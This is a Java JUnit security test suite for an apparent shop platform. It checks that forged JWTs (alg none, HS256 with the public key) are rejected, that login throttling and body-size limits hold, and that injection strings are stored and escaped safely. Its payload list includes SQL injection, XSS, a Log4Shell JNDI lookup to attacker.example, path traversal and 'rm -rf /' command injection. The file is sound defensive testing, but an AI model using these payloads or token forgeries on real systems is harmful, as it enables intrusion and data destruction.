package dev.halyard.e2e.resilience;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;

import dev.halyard.e2e.support.Client;
import dev.halyard.e2e.support.OrderStream;
import dev.halyard.e2e.support.RunningPlatform;
import dev.halyard.e2e.support.Scoreboard;
import dev.halyard.testing.Domain;
import dev.halyard.testing.auth.TestTokens;
import dev.halyard.testing.local.Platform;

/**
 * Scenario 7: every route of every service, taken from its published OpenAPI document, against every kind of
 * caller an attacker can be; login throttling; oversized bodies; injection strings in every text field.
 */
class AuthAttacksTest {

    private static final List<String> INJECTIONS = List.of(
            "Robert'); DROP TABLE product; --",
            "' OR '1'='1",
            "<script>alert('x')</script>",
            "\"><img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7}",
            "${jndi:ldap://attacker.example/a}",
            "../../../../etc/passwd",
            "\\\"; $(rm -rf /); `id`",
            "名前 — ünïcödé ✓");

    private static Platform platform;
    private static Client client;
    private static String admin;
    private static Client.Customer owner;
    private static Client.Customer stranger;
    private static String product;
    private static String order;

    @BeforeAll
    static void shop() {
        platform = RunningPlatform.get();
        client = new Client(platform);
        admin = client.admin();
        owner = client.newCustomer();
        stranger = client.newCustomer();
        product = client.newProduct(admin, 100, OrderStream.PRICE);
        order = client.expect(201, "POST", client.api(Domain.ORDER) + "/orders", owner.token(), orderBody("Product"))
                .body().path("order_id").asText();
    }

    /**
     * Each documented operation × {no token, expired, tampered signature, {@code alg: none}, HS256 signed with the
     * public key, signed by an unknown key, customer, admin, another customer on the owner's order}: secured
     * routes answer 401 to every forgery and 403 to a customer on an admin route, the owner's order is 404 to
     * anyone else, public routes serve everyone, and no case is a 5xx.
     */
    @Test
    void everyRouteAgainstEveryKindOfCaller() throws Exception {
        TestTokens forger = new TestTokens(platform.backing().keys());
        UUID adminId = UUID.randomUUID();
        Map<String, String> forgeries = new LinkedHashMap<>();
        forgeries.put("no token", null);
        forgeries.put("expired", forger.expired(adminId));
        forgeries.put("tampered signature", forger.tampered(adminId));
        forgeries.put("alg none", unsigned(adminId));
        forgeries.put("HS256 with the public key", hs256WithPublicKey(adminId));
        forgeries.put("unknown signing key", forger.forged(adminId));

        List<String> failures = new ArrayList<>();
        int cases = 0;
        int routes = 0;
        for (Domain domain : platform.domains()) {
            JsonNode paths = client.expect(200, "GET", platform.url(domain) + "/q/openapi?format=json", null, null)
                    .body().path("paths");
            for (Iterator<Map.Entry<String, JsonNode>> it = paths.fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> path = it.next();
                for (Iterator<Map.Entry<String, JsonNode>> ops = path.getValue().fields(); ops.hasNext();) {
                    Map.Entry<String, JsonNode> op = ops.next();
                    routes++;
                    Route route = new Route(domain, op.getKey().toUpperCase(), path.getKey(), op.getValue());
                    for (Map.Entry<String, String> forgery : forgeries.entrySet()) {
                        cases++;
                        check(failures, route, forgery.getKey(), forgery.getValue(),
                                route.secured() ? 401 : 0);
                    }
                    cases += 2;
                    check(failures, route, "customer", owner.token(), route.allows("customer") ? 0 : 403);
                    check(failures, route, "admin", admin, route.allows("admin") ? 0 : 403);
                    if (route.path().contains("/orders/{id}")) {
                        cases++;
                        check(failures, route, "another customer", stranger.token(), 404);
                    }
                }
            }
        }
        Scoreboard.record("auth-attacks", cases, cases - failures.size(), -1, failures.size(),
                "401 for every forgery on a secured route, 403 for a customer on an admin route, 404 for another "
                        + "customer's order, no 5xx",
                Map.of("routes", routes, "caller_kinds", forgeries.size() + 3));
        assertEquals(List.of(), failures);
        assertTrue(routes >= 20, "routes found in the OpenAPI documents: " + routes);
    }

    /** {@code expected}: that status exactly, or 0 for "served": anything but 401, 403 and 5xx. */
    private static void check(List<String> failures, Route route, String caller, String token, int expected)
            throws Exception {
        Client.Answer answer = route.call(token);
        String seen = route + " as " + caller + " -> " + answer.status();
        if (answer.status() >= 500) {
            failures.add(seen + " (server error: " + answer.raw() + ")");
        } else if (expected == 0 && (answer.status() == 401 || answer.status() == 403)) {
            failures.add(seen + " (expected it served)");
        } else if (expected != 0 && answer.status() != expected) {
            failures.add(seen + " (expected " + expected + ")");
        } else if (answer.status() >= 400 && !answer.contentType().startsWith("application/problem+json")) {
            failures.add(seen + " (error as " + answer.contentType() + ", not problem+json)");
        }
    }

    /** One documented operation, called with its path filled in and a body of the type it consumes. */
    private record Route(Domain domain, String method, String path, JsonNode operation) {

        boolean secured() {
            return operation.has("security");
        }

        boolean allows(String role) {
            if (!secured()) {
                return true;
            }
            for (JsonNode requirement : operation.path("security")) {
                for (JsonNode scope : requirement.path("bearer")) {
                    if (scope.asText().equals(role)) {
                        return true;
                    }
                }
            }
            return false;
        }

        Client.Answer call(String token) throws Exception {
            String url = platform.url(domain) + path.replace("/orders/{id}", "/orders/" + order)
                    .replace("/products/{id}", "/products/" + product)
                    .replace("{owner}", product).replace("{file}", "0123456789abcdef0123456789abcdef.png");
            JsonNode content = operation.path("requestBody").path("content");
            String type = content.fieldNames().hasNext() ? content.fieldNames().next() : null;
            if (type == null || type.contains("json")) {
                return client.send(method, url, token, type == null ? null : Map.of());
            }
            return client.sendBytes(method, url, token, type, new byte[]{1, 2, 3});
        }

        @Override
        public String toString() {
            return method + " " + path;
        }
    }

    @Test
    void loginThrottlingHolds() throws Exception {
        Client.Customer victim = client.newCustomer();
        String token = client.api(Domain.USER) + "/auth/token";
        int refused = 0;
        int throttled = 0;
        for (int i = 0; i < 8; i++) {
            int status = client.send("POST", token, null, Map.of("email", victim.email(), "password",
                    "Guess-Number-" + i)).status();
            refused += status == 401 ? 1 : 0;
            throttled += status == 429 ? 1 : 0;
        }
        // the right password is refused too while throttled: a guess cannot be confirmed
        int rightPassword = client.send("POST", token, null, Map.of("email", victim.email(), "password",
                "Customer-Password-1")).status();
        Scoreboard.record("login-throttling", 9, 0, -1, 0, "after 5 wrong passwords every login of that account "
                + "is 429, the right password included", Map.of("401", refused, "429", throttled + 1));
        assertEquals(5, refused);
        assertEquals(3, throttled);
        assertEquals(429, rightPassword);
    }

    /**
     * A body declared far larger than the limit is refused with 413 before it is sent: the client writes only the
     * headers and still gets its answer.
     */
    @Test
    void oversizedBodiesAreRejectedBeforeTheyAreRead() throws Exception {
        Map<Domain, String> routes = Map.of(Domain.USER, "/users/api/v1/users", Domain.PRODUCT,
                "/products/api/v1/products", Domain.ORDER, "/orders/api/v1/orders");
        for (Map.Entry<Domain, String> route : routes.entrySet()) {
            try (Socket socket = new Socket("127.0.0.1", platform.port(route.getKey()))) {
                socket.setSoTimeout(5_000);
                OutputStream out = socket.getOutputStream();
                out.write(("POST " + route.getValue() + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
                        + admin + "\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n{\"a\":")
                        .getBytes(StandardCharsets.US_ASCII));
                out.flush();
                InputStream in = socket.getInputStream();
                String head = new String(in.readNBytes(Math.max(in.available(), 12)), StandardCharsets.US_ASCII);
                assertTrue(head.startsWith("HTTP/1.1 413"), route + " answered " + head);
            }
        }
        Scoreboard.record("oversized-bodies", 3, 0, -1, 0, "a 1 GiB declared body is refused with 413 after the "
                + "headers alone", Map.of());
    }

    /** Each string is stored and returned exactly as sent, and the invoice (HTML) shows it escaped. */
    @Test
    void injectionStringsAreStoredVerbatimAndHarmless() throws Exception {
        int stored = 0;
        for (String text : INJECTIONS) {
            Client.Customer customer = client.newCustomer();
            client.expect(200, "PATCH", client.api(Domain.USER) + "/users/me", customer.token(),
                    Map.of("name", text));
            assertEquals(text, client.expect(200, "GET", client.api(Domain.USER) + "/users/me", customer.token(),
                    null).body().path("name").asText());

            String id = "INJ-" + UUID.randomUUID().toString().substring(0, 8);
            client.expect(201, "POST", client.api(Domain.PRODUCT) + "/products", admin, Map.of("product_id", id,
                    "name", text, "description", text, "stock", 5, "price", new java.math.BigDecimal("1.00")));
            JsonNode read = client.expect(200, "GET", client.api(Domain.PRODUCT) + "/products/" + id, null, null)
                    .body();
            assertEquals(text, read.path("name").asText());
            assertEquals(text, read.path("description").asText());

            String placed = client.expect(201, "POST", client.api(Domain.ORDER) + "/orders", customer.token(),
                    Client.orderRequest(List.of(Client.item(id, text, 1, "1.00")))).body().path("order_id").asText();
            assertEquals(text, client.expect(200, "GET", client.api(Domain.ORDER) + "/orders/" + placed,
                    customer.token(), null).body().path("items").get(0).path("product_name").asText());
            stored += 3;
        }
        // the tables the strings aimed at are still there and still served
        assertEquals(200, client.send("GET", client.api(Domain.PRODUCT) + "/products", null, null).status());
        assertEquals(200, client.send("GET", client.api(Domain.ORDER) + "/orders", owner.token(), null).status());

        // a NUL byte cannot be stored in PostgreSQL text: refused as the client's error, not a server failure
        Client.Answer nul = client.send("PATCH", client.api(Domain.USER) + "/users/me", owner.token(),
                Map.of("name", "nul\u0000byte"));
        assertEquals(400, nul.status(), nul.raw());
        Scoreboard.record("injection", stored + 1, stored, -1, 0, "every string stored and read back verbatim; "
                + "tables intact; NUL refused with 400", Map.of("strings", INJECTIONS.size()));
    }

    @Test
    void anInvoiceShowsInjectedMarkupAsText() throws Exception {
        String text = "<script>alert('x')</script>";
        Client.Customer customer = client.newCustomer();
        String placed = client.expect(201, "POST", client.api(Domain.ORDER) + "/orders", customer.token(),
                orderBody(text)).body().path("order_id").asText();
        String invoice = null;
        for (int i = 0; i < 300 && invoice == null; i++) {
            Client.Answer answer = client.send("GET", client.api(Domain.ORDER) + "/orders/" + placed + "/invoice",
                    customer.token(), null);
            invoice = answer.status() == 200 ? answer.raw() : null;
            Thread.sleep(100);
        }
        assertTrue(invoice != null, "invoice of confirmed order");
        assertFalse(invoice.contains(text), "markup rendered raw in the invoice");
        assertTrue(invoice.contains("&lt;script&gt;"), "markup shown escaped");
    }

    /** One unit of the shared product, under {@code name}. */
    private static Map<String, Object> orderBody(String name) {
        return Client.orderRequest(List.of(Client.item(product, name, 1, OrderStream.PRICE)));
    }

    /** {"alg":"none"}: claims admin with no signature at all. */
    private static String unsigned(UUID subject) {
        return b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + b64(claims(subject)) + ".";
    }

    /**
     * The algorithm-confusion attack: HS256 with the service's public key (which anyone can fetch) as the HMAC
     * secret, hoping the verifier uses whatever key it has with whatever algorithm the token names.
     */
    private static String hs256WithPublicKey(UUID subject) throws Exception {
        String signingInput = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + b64(claims(subject));
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(Files.readAllBytes(platform.backing().keys().publicKeyFile()), "HmacSHA256"));
        byte[] signature = mac.doFinal(signingInput.getBytes(StandardCharsets.US_ASCII));
        return signingInput + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(signature);
    }

    private static String claims(UUID subject) {
        long now = System.currentTimeMillis() / 1000;
        return "{\"iss\":\"" + TestTokens.ISSUER + "\",\"sub\":\"" + subject + "\",\"upn\":\"" + subject
                + "\",\"groups\":[\"admin\",\"customer\"],\"iat\":" + now + ",\"exp\":" + (now + 900) + "}";
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
